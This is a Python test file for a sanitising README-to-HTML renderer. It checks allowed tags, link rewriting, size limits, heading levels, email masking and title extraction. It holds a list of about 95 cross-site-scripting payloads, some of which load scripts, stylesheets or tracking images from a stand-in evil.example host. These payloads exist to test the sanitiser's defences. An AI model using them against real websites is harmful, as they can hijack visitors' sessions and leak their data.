from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawlers.metadata.readme import MAX_INPUT, MAX_OUTPUT, render

TAGS = {
    *("h3", "h4", "h5", "h6", "p", "a", "strong", "em", "b", "i", "code", "pre", "ul", "ol", "li"),
    *("blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "del", "dl", "dt"),
    *("dd", "sub", "sup", "kbd"),
}
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>x</SCRIPT>',
    "<img src='x' onerror='alert(1)'/>",
    "<image href=x onerror=alert(1)>",
    "<img/src=x/onerror=a()>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:x>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><body onload=x>",
    "<math><mtext></p><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<math><annotation-xml encoding='text/html'><script>x</script>",
    "<style>*{background:url(x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div id=x style=position:fixed>x</div>",
    "<form action=//evil.example><input name=q></form>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<textarea onfocus=alert(1) autofocus>",
    "<select onchange=x>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>x</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=x>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=a()>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a onmouseover=alert(1) href=#>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java&Tab;script:a(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](//evil.example/y)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/beacon.png)",
    '![x" onerror=a()](y)',
    '![x](https://evil.example/"onerror="alert(1))',
    "[![b](https://evil.example/b.svg)](javascript:x)",
    '[a](https://x.example "onmouseover=alert(1)")',
    "[a](https://x.example 'x\"onclick=\"y')",
    "```<script>\nalert(1)\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>' ?>",
    "<!DOCTYPE html><script>x</script>",
    ("<noscript><p title='</noscript><img src=x onerror=a()>'>"),
    "<xmp><script>x</script></xmp>",
    "<template><script>x</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>x</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '| a |\n|:--" onclick=x|\n| b |',
    "# <img src=x onerror=alert(1)>",
    "- [ ] <script>x</script>",
    "> <script>x</script>",
    "~~<script>x</script>~~",
    'https://evil.example/"onclick="alert(1)',
    "www.evil.example/<script>",
    '<https://evil.example/"onclick=x>',
    "<mailto:x@y.example>",
    'a@b.example"onclick=x',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<div\n\n<script>x</script>\n\n</div>",
    "<h1 id=location>x</h1>",
    "<a name=cookie>x</a>",
    "[x](https://user:secret@evil.example/)",
]


class Inspector(HTMLParser):
    """Notes every element, attribute and address of an HTML text."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.elements


def assert_harmless(html: str) -> None:
    for tag, attributes in elements(html):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        if attributes.get("href") is not None:
            assert str(attributes["href"]).startswith(("http://", "https://"))
            assert attributes["rel"] == "nofollow ugc noopener"
        assert attributes.get("align") in {None, "left", "right", "center"}
    assert "<!--" not in html


def test_the_corpus_is_large_enough() -> None:
    assert len(set(PAYLOADS)) >= 90


@pytest.mark.parametrize("name", ["README.md", "README.rst", "README"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_readme_keeps_allowed_elements_only(payload: str, name: str) -> None:
    rendered = render(f"# T\n\nText before {payload} and after.\n\n{payload}\n".encode(), name)
    assert_harmless(rendered.html)
    assert "Text before" in rendered.text


@given(st.lists(st.sampled_from([*PAYLOADS[:40], "\n", " ", ">", "*", "`", "[", "](", ")"])))
def test_any_mixture_of_payloads_is_harmless(parts: list[str]) -> None:
    assert_harmless(render("".join(parts).encode(), "README.md").html)


@given(
    st.binary(max_size=400), st.sampled_from(["README.md", "readme.rst", "README.adoc", "README"])
)
def test_any_bytes_are_rendered(data: bytes, name: str) -> None:
    rendered = render(data, name)
    assert_harmless(rendered.html)
    rendered.html.encode()
    rendered.text.encode()


@pytest.mark.parametrize(
    "data",
    [b"<div>" * 52_000, b">" * 262_144, b"> " * 131_072, b"- " * 131_072, b"[" * 262_144,
     b"*a " * 87_000, b"a**b" * 65_000, b"\\" * 262_144, b"![a](" * 52_000, b"&" * 262_144,
     b"    " * 200 + b"- x\n", b"1. " * 87_000, b"`" * 262_144, b"<a><b>" * 43_000],
)  # fmt: skip
def test_a_readme_that_is_slow_to_render_is_bounded(data: bytes) -> None:
    rendered = render(data, "README.md")
    assert len(rendered.html) <= MAX_OUTPUT + 20
    assert_harmless(rendered.html)


def test_deep_nesting_falls_back_to_escaped_text() -> None:
    rendered = render(b">" * 150 + b" deep", "README.md")
    assert rendered.html.startswith("<pre>&gt;&gt;")


def test_what_is_longer_than_the_cap_is_cut_at_a_line() -> None:
    data = b"# Title\n\n" + b"word word word word.\n" * 20_000
    rendered = render(data, "README.md")
    assert len(data) > MAX_INPUT
    assert rendered.html.endswith("word.</p>\n")
    assert len(rendered.html) <= MAX_INPUT
    assert rendered.title == "Title"


def test_headings_move_down_two_levels() -> None:
    html = render(b"# A\n\n## B\n\n##### C\n\n###### D\n", "README.md").html
    assert [tag for tag, _ in elements(html)] == ["h3", "h4", "h6", "h6"]


def test_images_become_their_alternative_text_and_load_nothing() -> None:
    rendered = render(b"![The logo](https://x.example/logo.png) text", "README.md")
    assert rendered.html == "<p>The logo text</p>\n"


def test_links_keep_their_address_and_relative_ones_lose_it() -> None:
    html = render(b"[a](https://x.example/a) [b](docs/b.md) [c](#c)", "README.md").html
    assert html.count("href") == 1
    assert 'href="https://x.example/a"' in html


def test_tables_lists_and_code_are_kept() -> None:
    source = b"| a |\n|:-:|\n| b |\n\n3. x\n\n```python\nprint(1 < 2)\n```\n"
    html = render(source, "README.md").html
    assert {"table", "th", "td", "ol", "li", "pre"} <= {tag for tag, _ in elements(html)}
    assert "print(1 &lt; 2)" in html


@pytest.mark.parametrize(
    ("source", "title", "summary"),
    [
        (("# Tool\n\n[![CI](https://ci.example/b.svg)](https://ci.example)\n\nThe tool that counts "
         "every tree of the city.\n"), "Tool", "The tool that counts every tree of the city."),
        (("<!-- comment that is long enough to be prose -->\n# Tool\n\n![a picture of the tool]"
         "(x.png)\n\n> A quote that is long enough to be prose.\n\n- a list item that is long "
         "enough\n\n## Use\n\nIt *counts* every tree of the `city` and its parks."),
         "Tool", "It counts every tree of the city and its parks."),
        (("| table | with | some | words |\n|---|---|---|---|\n| a | b | c | d |\n\nShort.\n\n"
         "This paragraph is the first real one."), None, "This paragraph is the first real one."),
        ("[English readme here](a) [version francaise ici](b)\n\nThis paragraph is the real one.",
         None, "This paragraph is the real one."),
        ("# 住所\n\n入力した住所文字列を正規化するジオコーダーです。", "住所",
         "入力した住所文字列を正規化するジオコーダーです。"),
        ("", None, None),
        ("# Only a title", "Only a title", None),
    ],
)  # fmt: skip
def test_title_and_summary_skip_what_is_no_prose(
    source: str, title: str | None, summary: str | None
) -> None:
    rendered = render(source.encode(), "README.md")
    assert (rendered.title, rendered.summary) == (title, summary)


@pytest.mark.parametrize(
    ("name", "source", "title", "summary"),
    [
        (
            "README.rst",
            (
                "Tool\n====\n\n.. image:: https://x.example/b.svg\n   :alt: a b c d e f g\n\n"
                "The tool counts every tree of the city.\n"
            ),
            "Tool",
            "The tool counts every tree of the city.",
        ),
        (
            "README.adoc",
            "= Tool\n:toc: left\n\nThe tool counts every tree of the city.\n",
            "Tool",
            "The tool counts every tree of the city.",
        ),
        (
            "README",
            "Tool\n\nThe tool counts every tree of the city.\n",
            "Tool",
            "The tool counts every tree of the city.",
        ),
        ("README.txt", "", None, None),
    ],
)
def test_other_formats_are_shown_as_text_with_title_and_summary(
    name: str, source: str, title: str | None, summary: str | None
) -> None:
    rendered = render(source.encode(), name)
    assert (rendered.title, rendered.summary) == (title, summary)
    assert rendered.html.startswith("<pre>")


def test_a_long_summary_ends_at_a_word() -> None:
    summary = render(b"word " * 200, "README.md").summary
    assert summary is not None
    assert len(summary) <= 300
    assert summary.endswith("word…")


def test_addresses_of_persons_are_masked_and_those_of_roles_are_not() -> None:
    source = b"Ask jane.doe@city.example or support@city.example. git clone git@forge.example:o/r"
    rendered = render(source, "README.md")
    assert "jane.doe" not in rendered.html + rendered.text
    assert "support@city.example" in rendered.text
    assert "git@forge.example:o/r" in rendered.text


def test_text_in_other_encodings_is_read() -> None:
    assert render("# Städte".encode("utf-16"), "README.md").title == "Städte"
    assert render(b"# St\xe4dte", "README.md").title == "St\ufffddte"
